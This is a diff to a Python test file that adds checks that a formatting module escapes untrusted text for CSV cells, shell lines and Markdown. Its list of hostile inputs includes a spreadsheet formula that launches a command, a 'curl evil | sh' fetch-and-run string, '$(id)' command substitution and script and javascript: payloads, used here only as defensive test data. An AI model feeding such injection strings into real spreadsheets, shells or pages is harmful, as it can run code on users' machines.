@@ -1,4 +1,7 @@
 import math
+import os
+import shlex
+import subprocess
 from pathlib import Path
 
 import pytest
@@ -8,15 +11,20 @@ from cifar_lightning.formatting import (
     clock,
     count,
     counted,
+    csv_cell,
+    csv_text,
     decimal,
     duration,
     images,
+    markdown,
+    markdown_code,
     percent,
     points,
     points_span,
     printable,
     pvalue,
     run_name,
+    shell_line,
     span,
     unbroken,
 )
@@ -79,3 +87,70 @@ def test_no_line_breaks_between_a_number_and_its_sign():
 def test_a_run_is_called_by_recipe_and_number_or_its_folder():
     assert run_name(Path("runs/smallnet/1")) == "smallnet/1"
     assert run_name(Path("elsewhere/best run")) == "best run"
+
+
+# -- text from outside -------------------------------------------------------------------------------------------------
+
+HOSTILE = [
+    "=cmd|' /C calc'!A0",
+    "@sum(1)",
+    "+1",
+    "-1",
+    "\t=1",
+    "'=1",
+    "''@a",
+    "x; curl evil | sh",
+    "$(id)",
+    "a\nb\x1b[2J",
+]
+HOSTILE += [
+    "<script>alert(1)</script>",
+    "[a](javascript:x)",
+    "`x`",
+    "``",
+    "b'c",
+    "back\\slash",
+    "lat\udcff",
+    "Käfer 狗",
+    "'",
+    "",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_no_cell_is_a_formula_and_every_cell_is_read_back(text):
+    assert csv_cell(text)[:1] not in tuple("=+-@\t\r")
+    assert csv_text(csv_cell(text)) == text
+
+
+def test_ordinary_cells_stay_as_they_are():
+    assert [csv_cell(text) for text in ("cat", "'t Hooft", "a=b", "photos/-1.png")] == [
+        "cat",
+        "'t Hooft",
+        "a=b",
+        "photos/-1.png",
+    ]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_shell_reads_back_every_word_of_one_line_and_runs_nothing(text):
+    line = shell_line("printf", "%s", text)
+    assert line.isprintable()
+    if text.isprintable():
+        assert shlex.split(line) == ["printf", "%s", text]
+    done = subprocess.run(["bash", "-c", line], capture_output=True, check=True)
+    assert done.stdout == os.fsencode(text)
+
+
+def test_markdown_shows_text_as_it_is():
+    assert markdown("tench, label_smoothing 0.1 (95 %)") == "tench, label_smoothing 0.1 (95 %)"
+    assert markdown("[a](javascript:x)") == r"\[a\](javascript:x)"
+    assert markdown("<script>|_x_") == r"\<script>\|\_x\_"
+    assert markdown("a\n# b https://c.d") == r"a\\n# b https:\//c.d"
+
+
+@pytest.mark.parametrize(
+    ("text", "code"), [("a.onnx", "`a.onnx`"), ("a`b", "``a`b``"), ("`", "`` ` ``"), ("\n", "`\\n`")]
+)
+def test_code_in_markdown_cannot_be_left(text, code):
+    assert markdown_code(text) == code
